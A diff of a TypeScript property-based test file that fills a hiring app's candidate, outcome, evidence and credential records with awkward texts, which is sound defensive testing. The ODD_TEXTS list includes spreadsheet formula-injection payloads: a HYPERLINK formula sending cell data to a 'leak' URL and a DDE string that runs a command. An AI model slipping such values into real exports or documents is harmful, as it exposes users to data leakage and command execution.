@@ -5,7 +5,7 @@ import { store } from "@/tests/support/store";
 
 /** What spreadsheets execute, what tables of text stumble over, and scripts of every kind. */
 export const ODD_TEXTS: readonly string[] = [
-  "=HYPERLINK(\"http://127.0.0.1:9/leak?\"&A1,\"click\")",
+  '=HYPERLINK("http://127.0.0.1:9/leak?"&A1,"click")',
   "=1+1",
   "+44 7700 900461",
   "-2+3+cmd|' /C calc'!A0",
@@ -15,7 +15,7 @@ export const ODD_TEXTS: readonly string[] = [
   "'an apostrophe alone",
   "  \t=after blanks".trim(),
   "＝１＋１",
-  "\"Quotes\" and , commas; semicolons | bars",
+  '"Quotes" and , commas; semicolons | bars',
   "one line\r\nanother\n\na third after none",
   "Zoë Çelik · 陈晓明 · עברית · العربية · हिन्दी · 🎉👩🏽‍💻",
   "0012", // what looks like a number stays a text
@@ -28,11 +28,14 @@ export const ODD_TEXTS: readonly string[] = [
   "null",
 ];
 
+// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are exactly what is left out
+const UNSTORABLE = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f\p{Cs}]/gu;
+
 /** A text that can be stored, of any script, at most so long. */
 function storable(most: number): fc.Arbitrary<string> {
   return fc
     .oneof(fc.string({ unit: "binary", maxLength: most }), fc.constantFrom(...ODD_TEXTS))
-    .map((text) => text.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f\p{Cs}]/gu, "").trim().slice(0, most).trim());
+    .map((text) => text.replace(UNSTORABLE, "").trim().slice(0, most).trim());
 }
 
 /** One person with odd texts wherever a text can stand. */
@@ -53,10 +56,17 @@ async function makeEvidence(actor: Actor, outcomeId: string, { line, text }: Odd
   const piece = { organizationId, outcomeId, title: line || "Evidence", description: text };
   const link = "https://records.example/a?b=1&c=%22x%22,2";
   await store().evidence.create({ data: { ...piece, kind: "ARTIFACT", link, ...checked } });
-  await store().evidence.create({ data: { ...piece, kind: "PEER_REFERENCE", title: `${piece.title} 2`.slice(0, 120) } });
+  await store().evidence.create({
+    data: { ...piece, kind: "PEER_REFERENCE", title: `${piece.title} 2`.slice(0, 120) },
+  });
 }
 
-async function makeOddPerson(actor: Actor, opening: MadeOpening, person: OddPerson, at: number): Promise<void> {
+async function makeOddPerson(
+  actor: Actor,
+  opening: MadeOpening,
+  person: OddPerson,
+  at: number,
+): Promise<void> {
   const { line, text, other, number, share } = person;
   const { organizationId } = actor;
   const { id: applicationId, candidateId } = await makeApplication(opening, {
@@ -66,19 +76,48 @@ async function makeOddPerson(actor: Actor, opening: MadeOpening, person: OddPers
     ...(at % 2 === 0 ? { email: `odd-${at}@example.test` } : {}),
   });
   const links = ["https://one.example/a,b", "https://two.example/?q=%0A"].slice(0, at % 3);
-  await store().candidate.update({ where: { id: candidateId }, data: { headline: line, phone: line || null, links } });
-  if (at % 5 === 4) await store().application.update({ where: { id: applicationId }, data: { status: "WITHDRAWN" } });
+  await store().candidate.update({
+    where: { id: candidateId },
+    data: { headline: line, phone: line || null, links },
+  });
+  if (at % 5 === 4)
+    await store().application.update({ where: { id: applicationId }, data: { status: "WITHDRAWN" } });
   const measured = { metric: line || "Measure", baseline: number, after: share };
-  const said = { aiPart: text, ownPart: text, limits: text, statement: [...other].length < 8 ? `Did ${at}: ${other}.......` : other };
+  const said = {
+    aiPart: text,
+    ownPart: text,
+    limits: text,
+    statement: [...other].length < 8 ? `Did ${at}: ${other}.......` : other,
+  };
   const false_ = at % 4 === 3 ? { status: "REFUTED" as const, statusNote: text || "It was not so." } : {};
   const { id } = await store().outcome.create({
-    data: { organizationId, applicationId, ...measured, ...said, ...false_, frequency: "WEEKLY", periodEnd: new Date("2026-03-31") },
+    data: {
+      organizationId,
+      applicationId,
+      ...measured,
+      ...said,
+      ...false_,
+      frequency: "WEEKLY",
+      periodEnd: new Date("2026-03-31"),
+    },
   });
   await makeEvidence(actor, id, person);
-  const credential = { organizationId, applicationId, title: line || "Certificate", issuer: line, grade: share };
+  const credential = {
+    organizationId,
+    applicationId,
+    title: line || "Certificate",
+    issuer: line,
+    grade: share,
+  };
   const found = at % 2 === 0 ? { genuineness: "DOCUMENT_SEEN" as const, genuinenessNote: text } : {};
   await store().credential.create({
-    data: { ...credential, ...found, kind: "GRADED_PROJECT", issuedOn: new Date("2025-12-31"), servesObjective: "YES" },
+    data: {
+      ...credential,
+      ...found,
+      kind: "GRADED_PROJECT",
+      issuedOn: new Date("2025-12-31"),
+      servesObjective: "YES",
+    },
   });
 }
 
